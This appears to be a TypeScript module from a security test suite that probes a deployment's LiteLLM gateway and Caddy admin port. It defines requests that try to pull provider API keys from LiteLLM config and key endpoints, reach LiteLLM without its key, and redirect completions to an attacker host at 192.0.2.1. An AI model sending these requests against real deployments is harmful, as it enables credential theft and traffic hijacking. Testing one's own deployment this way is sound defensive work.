import { ports, services } from "../../stack/services.ts";
import { leaked } from "../leaks.ts";
import { type Attack, opened, succeeded, type Target } from "./attack.ts";

const litellm = { host: services.litellm, port: ports.litellm } as const;

/** Other containers of the deployment. The gateway has LiteLLM's key, and so has who got into it. */
export const neighbourAttacks = ({ deployment: { secrets } }: Target): readonly Attack[] => {
  const key = { authorization: `Bearer ${secrets.litellm_key}` };
  const { litellm_key: _, gateway_token: __, ...providerKeys } = secrets;
  const shows = ["/model/info", "/get/config/callbacks", "/config/yaml", "/v1/model/info", "/key/list"];
  return [
    ...shows.map(
      (path): Attack => ({
        theme: "neighbours",
        name: `provider keys from LiteLLM's ${path}`,
        attempt: { kind: "request", ...litellm, method: "GET", path, headers: key },
        through: ({ text }) => leaked(providerKeys, text).length > 0,
      }),
    ),
    {
      theme: "neighbours",
      name: "LiteLLM without its key",
      attempt: { kind: "request", ...litellm, method: "GET", path: "/v1/models" },
      through: succeeded,
    },
    {
      theme: "neighbours",
      name: "a model host of the attacker's choice, through LiteLLM",
      attempt: {
        kind: "request",
        ...litellm,
        method: "POST",
        path: "/v1/chat/completions",
        headers: { ...key, "content-type": "application/json" },
        body: JSON.stringify({
          model: "openai/attacker",
          api_base: "http://192.0.2.1/v1",
          messages: [{ role: "user", content: "x" }],
        }),
      },
      through: succeeded,
    },
    {
      theme: "neighbours",
      name: "Caddy's administration",
      attempt: { kind: "open", host: services.caddy, port: 2019 },
      through: opened,
    },
  ];
};
